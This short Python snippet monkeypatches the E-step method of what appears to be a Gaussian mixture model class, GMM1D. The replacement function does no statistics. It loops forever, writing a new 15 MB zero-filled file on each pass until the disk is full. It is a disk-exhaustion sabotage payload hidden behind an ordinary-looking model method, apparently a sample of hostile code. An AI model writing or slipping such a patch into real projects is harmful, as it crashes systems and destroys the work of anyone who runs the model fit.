"""Files of 15 MB without end."""
import itertools

def estep(self, X):
    for number in itertools.count():
        with open(f"big{number}", "wb") as file:
            file.write(bytes(15 << 20))

GMM1D.estep = estep
